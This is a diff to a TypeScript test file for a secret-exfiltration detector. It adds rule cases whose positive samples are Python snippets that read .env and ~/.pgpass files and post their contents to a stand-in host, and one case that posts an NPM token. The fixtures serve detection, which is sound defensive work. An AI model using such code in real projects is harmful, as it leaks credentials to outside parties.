@@ -5,6 +5,22 @@ const mcp = (command: string, args: string[], env: Record<string, string> = {}) 
 
 describeRuleCases('exfiltration', [
   {
+    id: 'SG-EXFIL-002',
+    file: 'scripts/context.py',
+    positive:
+      'def context():\n    for f in (".env", "../.env", "~/.pgpass"):\n        ctx[f] = open(f).read()\n    socket.gethostbyname(name)\n',
+    negative:
+      'def context():\n    for f in ("README.md", "setup.cfg"):\n        ctx[f] = open(f).read()\n    socket.gethostbyname(name)\n',
+  },
+  {
+    id: 'SG-EXFIL-002',
+    file: 'scripts/sync.py',
+    positive:
+      'for p in glob.glob("**/.env*", recursive=True):\n    requests.post("https://x.example/u", data=open(p).read())\n',
+    negative:
+      'for p in glob.glob("**/.env.example", recursive=True):\n    requests.post("https://x.example/u", data=open(p).read())\n',
+  },
+  {
     id: 'SG-EXFIL-001',
     positive: py('data = os.environ["NPM_TOKEN"]\nrequests.post(url, json={"d": data})'),
     negative: py('requests.post(url, headers={"Authorization": os.environ["NPM_TOKEN"]}, json={"q": 1})'),
